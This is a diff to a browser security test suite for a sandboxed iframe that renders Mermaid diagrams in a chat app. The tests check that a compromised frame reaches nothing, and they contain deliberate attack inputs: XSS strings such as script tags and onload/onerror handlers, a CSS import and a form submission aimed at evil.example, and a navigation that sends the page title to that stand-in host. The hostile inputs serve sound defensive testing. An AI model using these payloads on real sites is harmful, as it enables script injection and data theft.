@@ -1,5 +1,5 @@
 import { readFile } from "node:fs/promises";
-import type { Page } from "playwright-core";
+import type { Locator, Page } from "playwright-core";
 import { expect, test } from "vitest";
 import { lastAnswer, openNewConversation } from "../../support/chatControls.ts";
 import { createWorkspaceFixture } from "../../support/createWorkspaceFixture.ts";
@@ -9,29 +9,38 @@ import { ask, composer, expectEventually, expectVisible } from "../../support/sc
 // Requests to any other server fail a test by themselves: see openPages.ts.
 const fixture = createWorkspaceFixture();
 
-const diagram = "```mermaid\ngraph LR\n  A --> B\n```";
-
-/** Replaces the frame's script, keeping the frame's real page and policy; then opens an answer with a diagram. */
-async function replaceFrameScript(script: string, expectedProblems = /(?!)/) {
+/**
+ * Opens a new conversation. The frame has its real page and policy, but its script is what `script` returns each time
+ * the frame starts.
+ */
+async function openWithFrameScript(script: () => string, expectedProblems = /(?!)/) {
   const { page } = await fixture.openSignedIn({ expectedProblems });
   const ran = await recordExecutedScripts(page);
   await page.route(/\/drawing\/assets\/index-[^/]*\.js$/, (route) =>
     route.fulfill({
       contentType: "text/javascript",
       headers: { "access-control-allow-origin": "*", "cross-origin-resource-policy": "cross-origin" },
-      body: script,
+      body: script(),
     }),
   );
   await openNewConversation(page, fixture.url);
-  fixture.workspace.models.script({ answer: `${diagram}\n\nThe end.` }, "scripted-large");
-  await ask(page, "Draw");
-  return { page, ran, answer: lastAnswer(page) };
+  return { page, ran };
 }
 
-/** Builds a frame script that answers every request with the result of `reply` for the request's id. */
+/** Asks for diagrams with these sources and returns the answer. */
+async function askForDiagrams(page: Page, ...sources: string[]): Promise<Locator> {
+  const blocks = sources.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``);
+  fixture.workspace.models.script({ answer: [...blocks, "The end."].join("\n\n") }, "scripted-large");
+  await ask(page, "Draw");
+  return lastAnswer(page);
+}
+
+/** Builds a frame script that answers every request with the result of `reply` for the request's id and source. */
 const frameScript = (reply: string) => `
   addEventListener("message", ({ ports: [port] }) => {
-    port.onmessage = async ({ data: { id } }) => { for (const answer of await (${reply})(id)) port.postMessage(answer); };
+    port.onmessage = async ({ data: { id, source } }) => {
+      for (const answer of await (${reply})(id, source)) port.postMessage(answer);
+    };
   });
   parent.postMessage("drawing-frame-ready", "*");
 `;
@@ -44,8 +53,7 @@ const drawnMessage = (inside: string, title = "") =>
 const frames = (page: Page) => page.locator("iframe");
 
 test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
-  const { page, ran, answer } = await replaceFrameScript(
-    frameScript(`async (id) => {
+  const attempts = frameScript(`async (id) => {
       const got = [];
       const attempt = async (name, act) => {
         try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
@@ -71,10 +79,10 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
       await attempt("form", () => { const f = document.createElement("form"); f.action = "https://evil.example"; f.target = "_top"; document.body.append(f); f.submit(); });
       await attempt("service worker", () => navigator.serviceWorker.register("/drawing/assets/x.js"));
       return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
-    }`),
-    // In the nested frame that it created.
-    /^Executing inline script violates/,
-  );
+    }`);
+  // The expected violation is that of the nested frame that the script creates.
+  const { page, ran } = await openWithFrameScript(() => attempts, /^Executing inline script violates/);
+  const answer = await askForDiagrams(page, "graph LR");
   await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
     "Diagram: reached: ",
   );
@@ -85,64 +93,32 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
   await composer(page).fill("The page is still there");
 });
 
-test("a frame that tries to navigate fails, and the page stays", async () => {
-  const { page, answer } = await replaceFrameScript(
-    `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
-     parent.postMessage("drawing-frame-ready", "*");`,
-    /^Framing 'https:\/\/evil\.example\/' violates/,
-  );
-  await expectVisible(answer, "The end.");
-  await expectEventually(() => page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
-  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
-});
+/** Replies of the frame, by the source that it was asked to draw. `shown`: what the page shows instead. */
+const hostileReplies = [
+  { source: "script", reply: drawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), shown: "diagram" },
+  { source: "styles", reply: drawnMessage("<style>@import '//evil.example/x.css';</style>"), shown: "source" },
+  {
+    source: "page",
+    reply: `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
+    shown: "source",
+  },
+  { source: "title", reply: drawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), shown: "diagram" },
+  {
+    source: "number of another request",
+    reply: `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawnMessage("<g/>")}`,
+    shown: "diagram",
+  },
+  {
+    source: "other messages",
+    reply: `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawnMessage("<g/>")}`,
+    shown: "diagram",
+  },
+];
 
-test.each([
-  ["a script in it", drawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), "diagram"],
-  ["styles of elsewhere", drawnMessage("<style>@import '//evil.example/x.css';</style>"), "source"],
-  [
-    "a page in its place",
-    `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
-    "source",
-  ],
-  ["markup as its title", drawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), "diagram"],
-  [
-    "another's number before its own",
-    `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawnMessage("<g/>")}`,
-    "diagram",
-  ],
-  [
-    "other things before it",
-    `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawnMessage("<g/>")}`,
-    "diagram",
-  ],
-])("a picture with %s is harmless or not shown", async (_, reply, shown) => {
-  const { page, ran, answer } = await replaceFrameScript(frameScript(`(id) => [${reply}]`));
-  if (shown === "source") {
-    await expectVisible(answer, "This diagram is not safe to show, so only its source is shown.");
-    await answer.getByRole("group", { name: "Code, Mermaid" }).waitFor();
-  } else {
-    const image = answer.getByRole("img", { name: /^Diagram/ });
-    await expectEventually(() =>
-      image.evaluate((element) => element instanceof HTMLImageElement && element.complete),
-    ).toBe(true);
-    const address = (await image.getAttribute("src")) ?? "";
-    expect(address).toMatch(new RegExp(`^blob:${fixture.url}/`));
-    // A saved file may be opened as a page.
-    await answer.getByRole("button", { name: "Download" }).click();
-    const [download] = await Promise.all([
-      page.waitForEvent("download"),
-      page.getByRole("menuitem", { name: "Image (SVG)" }).click(),
-    ]);
-    const text = await readFile(await download.path(), "utf8");
-    expect(text).toMatch(/^<svg /);
-    expect(text).not.toMatch(/script|onload|import/);
-  }
-  expect(ran).toEqual([]);
-});
-
-test("messages of other windows are ignored, and a frame that never answers loses only its own drawing", async () => {
-  const { page } = await fixture.openSignedIn();
-  await openNewConversation(page, fixture.url);
+test("hostile pictures are harmless or not shown, and messages of other windows are ignored", async () => {
+  const replies = hostileReplies.map(({ source, reply }) => `${JSON.stringify(source)}: [${reply}]`);
+  const script = frameScript(`(id, source) => ({ ${replies.join(", ")} })[source]`);
+  const { page, ran } = await openWithFrameScript(() => script);
   await page.evaluate(() => {
     const given = window.postMessage.bind(window);
     // Imitate the frame's ready message every millisecond, so that it arrives before the real one.
@@ -151,27 +127,68 @@ test("messages of other windows are ignored, and a frame that never answers lose
     Object.assign(window, { heard });
     addEventListener("message", (event) => event.ports.length > 0 && heard.push(event.data));
   });
-  fixture.workspace.models.script({ answer: diagram }, "scripted-large");
-  await ask(page, "Draw");
-  await lastAnswer(page)
-    .getByRole("img", { name: /^Diagram/ })
-    .waitFor();
+  const answer = await askForDiagrams(page, ...hostileReplies.map(({ source }) => source));
+  const images = answer.getByRole("img", { name: /^Diagram/ });
+  await expectEventually(() => images.count()).toBe(4);
+  const areComplete = () =>
+    images.evaluateAll((all) => all.map((image) => image instanceof HTMLImageElement && image.complete));
+  await expectEventually(areComplete).toEqual([true, true, true, true]);
+  for (const image of await images.all()) {
+    expect(await image.getAttribute("src")).toMatch(new RegExp(`^blob:${fixture.url}/`));
+  }
+  const unsafe = answer.getByText("This diagram is not safe to show, so only its source is shown.");
+  await expectEventually(() => unsafe.count()).toBe(2);
+  expect(await answer.getByRole("group", { name: "Code, Mermaid" }).allTextContents()).toEqual(["styles", "page"]);
+  // A saved file may be opened as a page.
+  for (const button of await answer.getByRole("button", { name: "Download", exact: true }).all()) {
+    await button.click();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("menuitem", { name: "Image (SVG)" }).click(),
+    ]);
+    const text = await readFile(await download.path(), "utf8");
+    expect(text).toMatch(/^<svg /);
+    expect(text).not.toMatch(/script|onload|import/);
+  }
   expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
   expect(await frames(page).evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
     "allow-scripts",
   ]);
+  expect(ran).toEqual([]);
 });
 
-test("a frame that repeatedly reports that it has started gets no extra time", { timeout: 60_000 }, async () => {
-  const { page, answer } = await replaceFrameScript(
-    frameScript(
-      `(id) => { setInterval(() => port.postMessage({ id, isStarted: true }), 500); return [{ id, isStarted: true }]; }`,
-    ),
+test("a frame that navigates or repeatedly reports that it has started loses only its own drawing and gets no extra time", async () => {
+  const navigating = `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
+     parent.postMessage("drawing-frame-ready", "*");`;
+  const endless = `addEventListener("message", ({ ports: [port] }) => {
+      port.onmessage = ({ data: { id } }) => setInterval(() => {
+        port.postMessage({ id, isStarted: true });
+        console.info("reported");
+      }, 100);
+    });
+    parent.postMessage("drawing-frame-ready", "*");`;
+  const drawing = frameScript(`(id) => [${drawnMessage("<g/>")}]`);
+  const scripts = [navigating, endless, drawing];
+  const { page } = await openWithFrameScript(
+    () => scripts.shift() ?? "",
+    /^Framing 'https:\/\/evil\.example\/' violates/,
   );
-  await answer
-    .getByText("This diagram takes too long to draw, so only its source is shown.")
-    .waitFor({ timeout: 30_000 });
-  expect(await frames(page).count()).toBe(0);
+  await page.clock.install();
+  const answer = await askForDiagrams(page, "first", "second", "third");
+  await expectVisible(answer, "The end.");
+  await expectEventually(() => page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
+  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
+  await page.clock.fastForward(30_000);
+  await expectVisible(answer, "The diagram could not be drawn because a part of the app did not load.");
+
+  // Three times less than the 8 s that a drawing may take, with reports in between.
+  for (let step = 0; step < 3; step++) {
+    await page.waitForEvent("console", (message) => message.text() === "reported");
+    await page.clock.fastForward(3_000);
+  }
+  await expectVisible(answer, "This diagram takes too long to draw, so only its source is shown.");
+  await expectEventually(() => answer.getByRole("img", { name: /^Diagram/ }).count()).toBe(1);
+  expect(await frames(page).count()).toBe(1);
 });
 
 test("only our own page may embed the frame's page, and its files are public", async () => {
